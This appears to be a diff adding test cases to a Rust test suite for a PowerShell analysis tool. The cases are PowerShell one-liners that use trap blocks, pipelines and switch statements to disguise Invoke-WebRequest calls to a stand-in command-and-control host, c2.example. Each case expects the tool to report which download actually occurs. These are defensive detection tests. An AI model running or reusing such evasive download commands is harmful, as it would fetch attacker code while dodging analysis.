@@ -54,6 +54,22 @@ const A: &str = "download http://c2.example/a";
 fn statements() {
     check(&[
         (
+            "trap [IO.IOException] { } trap { } throw 'x'; iwr http://c2.example/a",
+            A,
+        ),
+        (
+            "trap [IO.IOException] { iwr http://c2.example/a } trap { } throw 'x'",
+            A,
+        ),
+        (
+            "'http://c2.example/a' | ? { $_ -eq (Get-Date) } | % { iwr $_ }",
+            A,
+        ),
+        (
+            "@('http://c2.example/a').Where({ $_ -eq (Get-Date) }).ForEach({ iwr $_ })",
+            A,
+        ),
+        (
             "switch ('x') { 'y' { iwr http://c2.example/b } 'x' { iwr http://c2.example/a } }",
             A,
         ),
